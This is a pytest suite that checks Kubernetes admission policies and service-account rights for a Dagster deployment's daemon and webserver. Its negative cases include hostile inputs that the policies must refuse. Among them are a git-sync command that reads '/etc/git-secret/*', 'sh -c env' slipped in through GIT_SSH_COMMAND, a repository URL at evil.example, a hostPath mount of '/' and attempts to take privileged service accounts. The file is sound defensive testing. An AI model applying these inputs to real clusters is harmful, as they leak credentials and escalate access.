"""What daemon and webserver may do where runs are pods. Tried as these accounts, on a real API server."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from playground_ops.config import Configuration, read
from playground_ops.config.cluster import ClusterFacts, in_cluster
from playground_ops.core.model import Location, Release, Revision
from playground_ops.core.pod_settings import PodSettings, Volume
from playground_ops.render import foundation, release, rights, run_admission
from playground_ops.render.admission import render as policies
from playground_ops.render.names import DAEMON, ENVIRONMENTS_FOLDER, OPS_ACCOUNT, WEBSERVER
from playground_ops.render.runs import RUN_ID
from playground_ops.render.stack import render
from playground_ops.targets.kubernetes.api.paths import collection
from tests.asking import eventually
from tests.cluster.access import Access
from tests.cluster.plugin import SESSION_VARIABLE
from tests.kubernetes.as_account import asked, refused_to_make
from tests.kubernetes.connections import remove_policies
from tests.runpods import job_of

Object = dict[str, Any]
ARCHIVE = "dagster-code-x"
HTTPS, SSH = "https://git.internal/x.git", "git@git.internal:x.git"


def configured(namespace: str) -> Configuration:
    deployments = "[{name: next}, {name: quiet, daemon: off}]"
    text = f"{{run_launcher: kubernetes, deployments: {deployments}, kubernetes: {{namespace: {namespace}}}}}"
    found = read(text, Path("x.yaml"))
    pod = PodSettings(
        image="registry.internal/mine:1",
        environment_from_secrets=("more",),
        environment_from_config_maps=("settings",),
        image_pull_secrets=("pull",),
        volumes=(Volume(name="files", path="/mnt/files", secret="shell-files"),),
        labels={"team": "data"},
    )
    locations = (
        Location(name="plain"),
        Location(name="second", deployment="next"),
        Location(name="third", deployment="quiet"),
        Location(name="web", repository=HTTPS, git_secret="web-git"),
        Location(name="shell", repository=SSH, git_secret="shell-git", pod=pod),
    )
    ops = found.ops.model_copy(update={"repository": "https://git.internal/ops.git"})
    return found.model_copy(update={"locations": locations, "ops": ops})


def the_release(found: Configuration, location: str) -> Release:
    chosen = next(one for one in found.all_locations if one.name == location)
    revision = Revision(repository=chosen.repository, commit="1" * 40)
    return Release(location=chosen, number=3, revision=revision, configuration="c", created_at="t")


def a_run(found: Configuration, location: str, tags: Object | None = None) -> Object:
    return job_of(the_release(found, location), found, ARCHIVE, tags)


@pytest.fixture(scope="module")
def space(access: Access) -> Iterator[str]:
    """A namespace with the foundation alone."""
    name = access.make_namespace(os.environ[SESSION_VARIABLE])
    found = configured(name)
    made = (foundation.rights, rights.run_rights, policies, run_admission.render)
    access.apply(*(one for render_some in made for one in render_some(found)))
    foreign = a_run(found, "plain", {"container_config": {"image": "elsewhere/evil:1"}})
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "server", "namespace": name}}
    access.apply({**pod, "spec": {"containers": [{"name": "x", "image": "x"}]}})
    try:
        # A policy is in force some time after it was made.
        eventually("one policy to be in force", lambda: "may not use" in refusal(access, foreign))
        other = (DAEMON, name, "Pod", "server")
        eventually("the other too", lambda: "may end runs" in refused_to_end(access, *other))
        yield name
    finally:
        remove_policies(access, name)
        access.delete_namespace(name, wait=False)


def refusal(access: Access, wanted: Object, account: str = DAEMON) -> str:
    return refused_to_make(access, account, wanted)


def refused_to_end(access: Access, account: str, namespace: str, kind: str, name: str) -> str:
    api = {"Pod": "v1", "Job": "batch/v1"}[kind]
    return asked(access, account, "DELETE", f"{collection(api, kind, namespace)}/{name}")


@pytest.mark.parametrize("location", ["ops", "plain", "web", "shell"])
def test_the_run_of_every_kind_of_release_may_be_launched(access: Access, space: str, location: str) -> None:
    assert refusal(access, a_run(configured(space), location)) == ""


@pytest.mark.parametrize(
    ("location", "account", "told"),
    [
        ("second", f"{DAEMON}-next", ""),
        ("plain", f"{DAEMON}-next", "may not use"),
        ("second", DAEMON, "may not use"),
        ("third", f"{WEBSERVER}-quiet", ""),  # there is no daemon that would launch it
        ("second", f"{WEBSERVER}-next", "forbidden"),
    ],
)
def test_a_deployment_launches_runs_of_its_own_locations(
    access: Access, space: str, location: str, account: str, told: str
) -> None:
    found = refusal(access, a_run(configured(space), location), account)
    assert told in found if told else found == ""


OF_ITS_OWN = f"{ENVIRONMENTS_FOLDER}/0123456789abcdef/bin/python"


@pytest.mark.parametrize(
    ("words", "told"),
    [
        ([OF_ITS_OWN, "-m", "dagster", "api", "execute_run", "{}"], ""),
        (["dagster", "api", "resume_run", "{}"], ""),
        (["dagster", "dev", "execute_run", "{}"], "another command"),
        ([OF_ITS_OWN, "-c", "dagster", "api", "execute_run", "{}"], "another command"),
        ([OF_ITS_OWN, "-m", "http.server", "api", "execute_run", "{}"], "another command"),
        (["/usr/bin/python", "-m", "dagster", "api", "execute_run", "{}"], "another command"),
        (
            [f"{ENVIRONMENTS_FOLDER}/../app/bin/python", "-m", "dagster", "api", "execute_run"],
            "another command",
        ),
    ],
)
def test_its_words_are_those_of_a_run(access: Access, space: str, words: list[str], told: str) -> None:
    """Where a release has packages of its own its server names that environment's Python."""
    made = a_run(configured(space), "web")
    made["spec"]["template"]["spec"]["containers"][0]["args"] = words
    found = refusal(access, made)
    assert told in found
    assert bool(told) == bool(found)


def test_a_job_says_itself_what_its_run_needs(access: Access, space: str) -> None:
    """Dagster documents a tag for it."""
    more = {
        "container_config": {
            "resources": {"requests": {"cpu": "2"}, "limits": {"memory": "8Gi"}},
            "env": [{"name": "THREADS", "value": "2"}],
        },
        "pod_spec_config": {"nodeSelector": {"disk": "fast"}, "volumes": [{"name": "x", "emptyDir": {}}]},
        "pod_template_spec_metadata": {"labels": {"cost": "high"}},
    }
    made = a_run(configured(space), "shell", more)
    (main,) = made["spec"]["template"]["spec"]["containers"]
    assert (main["resources"]["requests"]["cpu"], main["resources"]["limits"]["memory"]) == ("2", "8Gi")
    labels = made["spec"]["template"]["metadata"]["labels"]
    assert (labels["team"], labels["cost"], labels["app"]) == ("data", "high", "dagster-run-shell")
    assert refusal(access, made) == ""


def volume(source: Object) -> Object:
    return {"pod_spec_config": {"volumes": [{"name": "extra", **source}]}}


def variable(secret: str) -> Object:
    reference = {"secretKeyRef": {"name": secret, "key": "k"}}
    return {"container_config": {"env": [{"name": "X", "valueFrom": reference}]}}


def before(**more: Any) -> Object:
    return {"pod_spec_config": {"initContainers": [{"name": "y", "image": "docker.io/x:1", **more}]}}


MINE = "registry.internal/mine:1"
REFUSED: list[tuple[str, Object, str]] = [
    ("web", {"container_config": {"image": "elsewhere/evil:1"}}, "an image that the configuration does not"),
    ("web", {"container_config": {"image": MINE}}, "an image that the configuration does not name"),
    ("web", {"container_config": {"command": ["sh", "-c", "env"]}}, "another command than that of a run"),
    (
        "web",
        {"container_config": {"command": ["sh", "-ec", release.UNPACK, "/opt/dagster/app/x", "env"]}},
        "another command than that of a run",
    ),
    ("web", volume({"secret": {"secretName": "foreign"}}), "a volume of a Secret"),
    ("web", volume({"secret": {"secretName": "shell-files"}}), "a volume of a Secret"),
    ("web", volume({"secret": {"secretName": "shell-git"}}), "a volume of a Secret"),
    ("web", volume({"hostPath": {"path": "/"}}), "a kind of volume that the stack has none of"),
    ("web", variable("foreign"), "a variable from a Secret"),
    ("web", variable("more"), "a variable from a Secret"),
    ("web", variable("web-git"), "a variable from a Secret"),
    ("web", {"pod_spec_config": {"imagePullSecrets": [{"name": "pull"}]}}, "a pull secret"),
    ("web", {"pod_spec_config": {"serviceAccountName": OPS_ACCOUNT}}, f"the service account {OPS_ACCOUNT}"),
    ("web", {"pod_spec_config": {"serviceAccountName": DAEMON}}, f"the service account {DAEMON}"),
    ("web", {"pod_spec_config": {"automountServiceAccountToken": True}}, "default or its token"),
    (
        "web",
        {"container_config": {"volumeMounts": [{"name": "git-secret", "mountPath": "/x"}]}},
        "git credentials in a container that does not fetch",
    ),
    ("web", before(), "something else before a run than what fetches"),
    ("web", {"pod_spec_config": {"securityContext": {"runAsUser": 65533}}}, "or another user"),
    ("web", {"container_config": {"securityContext": {"runAsUser": 65533}}}, "or another user"),
    ("ops", {"container_config": {"env": [{"name": "PYTHONPATH", "value": "/x"}]}}, "`ops` does not have"),
    ("ops", {"container_config": {"env": [{"name": "HOME", "value": "/x"}]}}, "`ops` does not have"),
    (
        "ops",
        {"container_config": {"env": [{"name": "PLAYGROUND_CONFIG", "value": "/opt/dagster/artifacts/x"}]}},
        "`ops` does not have",
    ),
    (
        "ops",
        {"container_config": {"volumeMounts": [{"name": "artifacts", "mountPath": "/usr/lib"}]}},
        "a volume that `ops` does not have",
    ),
]


@pytest.mark.parametrize(("location", "tags", "told"), REFUSED, ids=[told for _, _, told in REFUSED])
def test_what_a_tag_says_beyond_the_configuration_is_refused(
    access: Access, space: str, location: str, tags: Object, told: str
) -> None:
    assert told in refusal(access, a_run(configured(space), location, tags))


def test_a_run_fetches_as_its_release_does(access: Access, space: str) -> None:
    fetching, installing = a_run(configured(space), "web")["spec"]["template"]["spec"]["initContainers"]
    for changed, told in (
        ({"args": ["--repo=https://evil.example/x.git", *fetching["args"][1:]]}, "is not configured"),
        ({"command": ["sh", "-c", "cat /etc/git-secret/*", "git-sync"]}, "a command of git-sync"),
        ({"env": [{"name": "GIT_SSH_COMMAND", "value": "sh -c env"}]}, "a variable of git-sync"),
        ({"env": [{"name": "PLAYGROUND_LIVE", "value": "0123"}]}, "code that is kept of another"),
        ({"restartPolicy": "Always"}, "an init container that goes on"),
        ({"args": [*fetching["args"], "--exechook-command=/x"]}, "a command of git-sync"),
    ):
        made = a_run(configured(space), "web")
        made["spec"]["template"]["spec"]["initContainers"] = [{**fetching, **changed}, installing]
        assert told in refusal(access, made), changed


def test_of_which_location_a_run_is_can_t_be_said_by_a_tag(access: Access, space: str) -> None:
    labels = {"labels": {"dagster/code-location": "shell"}}
    made = a_run(configured(space), "web", {**variable("more"), "pod_template_spec_metadata": labels})
    assert "a variable from a Secret" in refusal(access, made)
    with pytest.raises(Exception, match=r"job_metadata\.labels"):
        a_run(configured(space), "web", {"job_metadata": labels})
    made = a_run(configured(space), "web")
    made["metadata"]["labels"]["dagster/code-location"] = "nobody"
    assert "a run of nobody may not use" in refusal(access, made)


def test_what_releases_have_that_were_made_before_stays_allowed(access: Access, namespace: str) -> None:
    """They launch runs as they are until others serve, and after a rollback."""
    before = configured(namespace)
    old = a_run(before, "shell")
    context = release.context_of_runs(the_release(before, "shell"), before, ARCHIVE)
    (shell,) = (one for one in before.locations if one.name == "shell")
    now = shell.model_copy(update={"pod": PodSettings(image="registry.internal/mine:2"), "git_secret": None})
    after = before.model_copy(update={"locations": (now,)})
    access.apply(*rights.run_rights(after), *run_admission.render(after))
    eventually("the policy to be in force", lambda: "registry.internal/mine:1" in refusal(access, old))
    access.apply(*run_admission.render(in_cluster(after, ClusterFacts(live_runs=(context,)))))
    eventually("the old one to be let through", lambda: refusal(access, old) == "")
    assert refusal(access, a_run(after, "shell")) == ""


def test_they_end_runs_and_nothing_else(access: Access, space: str) -> None:
    found = a_run(configured(space), "plain")
    access.kubectl("create", "-f", "-", namespace=space, stdin=json.dumps(found))
    name = found["metadata"]["name"]
    for account in (DAEMON, WEBSERVER):
        assert "may end runs of their own deployment, and nothing else" in refused_to_end(
            access, account, space, "Pod", "server"
        )
        assert refused_to_end(access, account, space, "Job", name) == ""
        assert "may end runs of their own" in refused_to_end(access, f"{account}-next", space, "Job", name)
    assert "forbidden" in refusal(access, found, WEBSERVER), "the webserver launches nothing"
    assert found["spec"]["template"]["metadata"]["labels"][RUN_ID]


RIGHTS = {
    DAEMON: {
        ("create", "jobs.batch"),
        ("list", "jobs.batch"),
        ("delete", "jobs.batch"),
        ("get", "jobs.batch/status"),
        ("list", "pods"),
        ("delete", "pods"),
        ("get", "pods/log"),
        ("list", "events"),
    },
    WEBSERVER: {("list", "pods"), ("delete", "pods"), ("delete", "jobs.batch")},
    f"{WEBSERVER}-quiet": {
        *(("list", "pods"), ("delete", "pods"), ("delete", "jobs.batch"), ("create", "jobs.batch"))
    },
}


@pytest.mark.parametrize("account", RIGHTS)
def test_they_have_no_right_beyond_that(access: Access, space: str, account: str) -> None:
    told = access.kubectl(
        *("auth", "can-i", "--list", "--no-headers"),
        f"--as=system:serviceaccount:{space}:{account}",
        namespace=space,
    )
    rows = [(line.split()[0], line[line.rindex("[") + 1 : line.rindex("]")]) for line in told.splitlines()]
    found = {
        (verb, what) for what, verbs in rows for verb in verbs.split() if not what.startswith(("[", "/"))
    }
    assert {one for one in found if not one[1].startswith("selfsubject")} == RIGHTS[account]


def test_ops_may_apply_webserver_and_daemon_with_their_accounts_and_no_others(
    access: Access, space: str
) -> None:
    components = render(configured(space))
    (daemon,) = components["daemon"]
    webserver = next(one for one in components["webserver"] if one["kind"] == "Deployment")
    for one, account in ((daemon, DAEMON), (webserver, WEBSERVER)):
        assert one["spec"]["template"]["spec"]["serviceAccountName"] == account
        assert refusal(access, one, OPS_ACCOUNT) == ""
    daemon["spec"]["template"]["spec"]["serviceAccountName"] = WEBSERVER
    assert f"the service account {WEBSERVER}" in refusal(access, daemon, OPS_ACCOUNT)
